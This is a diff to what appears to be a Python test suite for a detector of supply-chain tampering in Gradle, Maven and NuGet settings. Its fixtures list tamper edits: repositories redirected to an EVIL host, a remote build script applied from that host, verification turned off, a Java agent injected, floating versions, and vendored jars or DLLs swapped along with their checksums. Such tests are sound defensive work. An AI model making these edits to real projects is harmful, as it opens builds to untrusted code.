@@ -640,6 +640,44 @@ fmt("gradle wrapper", {W: WRAPPER, J: "jar of 8.5\n"}, [
     ("upgrade", [(W, None, WRAPPER.replace("8.5", "8.6").replace(hexed("gradle"), hexed("g86"))), (J, None, "jar of 8.6\n")], PASS),
 ])
 
+GP, MC, POM = "gradle.properties", ".mvn/maven.config", "pom.xml"
+SCRIPT = f"repositories {{\n  mavenCentral()\n  maven {{ url '{REGISTRY}/m2' }}\n}}\ndependencies {{ implementation 'org.example:left:1.0' }}\n"
+PROJECT = (f"<project><repositories><repository><id>r</id><url>{REGISTRY}/m2</url></repository></repositories>"
+           "<dependencies><dependency><groupId>org.example</groupId><artifactId>left</artifactId><version>1.0</version></dependency></dependencies></project>\n")
+JAR = "repo/org/example/left/1.0/left-1.0.jar"
+fmt("gradle and maven settings", {"build.gradle": SCRIPT, GP: "org.gradle.jvmargs=-Xmx1g\n", MC: "-B\n", POM: PROJECT, V: GRADLE,
+                                  JAR: "left\n", JAR + ".sha1": hexed("left\n", "sha1") + "\n"}, [
+    ("metadata deleted", [(V, None, None)], ["protection-weakened"]),
+    ("a second list of hashes", [(V, "</components>", "</components><components>" + GRADLE.split("<components>")[1].split("</components>")[0].replace(hexed("left"), hexed("evil"))
+                                  + "</components>")], ["hash-changed"]),
+    ("a key for a known group", [(V, "<verify-signatures>false</verify-signatures>",
+                                  '<verify-signatures>true</verify-signatures><trusted-keys><trusted-key id="00" group="org.example"/></trusted-keys>')], ["protection-weakened"]),
+    ("repository", [("build.gradle", "mavenCentral()", f"maven {{ url '{EVIL}' }}")], ["registry-changed"]),
+    ("script from elsewhere", [("build.gradle", "dependencies", f"apply from: '{EVIL}/x.gradle'\ndependencies")], ["registry-changed"]),
+    ("version that moves", [("build.gradle", "left:1.0", "left:1.+")], ["protection-weakened"]),
+    ("verification off", [(GP, None, "org.gradle.dependency.verification=off\n")], ["protection-weakened"]),
+    ("agent", [(GP, "-Xmx1g", "-Xmx1g -javaagent:lib/x.jar")], ["protection-weakened"]),
+    ("other settings", [(MC, None, "-B\n-sci/other.xml\n")], ["protection-weakened"]),
+    ("range", [(POM, "<version>1.0", "<version>[1.0,)")], ["protection-weakened"]),
+    ("jar and its checksum", [(JAR, None, "evil\n"), (JAR + ".sha1", None, hexed("evil\n", "sha1") + "\n")], ["vendored-changed"]),
+    ("version raised", [("build.gradle", "left:1.0", "left:2.0"), (POM, "<version>1.0", "<version>2.0")], PASS),
+])
+
+NC = "nuget.config"
+NUGET_CONFIG = (f'<configuration><packageSources><clear /><add key="a" value="{REGISTRY}/v3/index.json" /></packageSources>'
+                '<packageSourceMapping><packageSource key="a"><package pattern="*" /><package pattern="Own.*" /></packageSource></packageSourceMapping></configuration>\n')
+fmt("nuget settings", {NC: NUGET_CONFIG, "Directory.Build.props": "<Project><PropertyGroup><RestoreLockedMode>true</RestoreLockedMode></PropertyGroup></Project>\n",
+                       "packages/Left.1.0.0/lib/Left.dll": "dll\n"}, [
+    ("source", [(NC, REGISTRY, EVIL)], ["registry-changed"]),
+    ("mapping gone", [(NC, "packageSourceMapping", "x")], ["protection-weakened"]),
+    ("mapped to another source", [(NC, "</packageSourceMapping>", '<packageSource key="b"><package pattern="Own.Left" /></packageSource></packageSourceMapping>')],
+     ["protection-weakened"]),
+    ("deleted", [(NC, None, None)], ["protection-weakened"]),
+    ("not locked", [("Directory.Build.props", ">true<", ">false<")], ["protection-weakened"]),
+    ("unpacked file", [("packages/Left.1.0.0/lib/Left.dll", None, "evil\n")], ["vendored-changed"]),
+    ("a pattern more", [(NC, '<package pattern="Own.*" />', '<package pattern="Own.*" /><package pattern="New.*" />')], PASS),
+])
+
 # ---- the others, each with what its fields allow ----
 N = "packages.lock.json"
 NUGET = json.dumps({"version": 1, "dependencies": {"net8.0": {
@@ -916,6 +954,9 @@ def apply(repo, edits):
     for path, old, new in edits:
         if old is None and new is not None:
             write(repo, path, new)
+            continue
+        if old is None:
+            os.remove(os.path.join(repo, path))
             continue
         with open(os.path.join(repo, path), encoding="utf-8") as file:
             text = file.read()
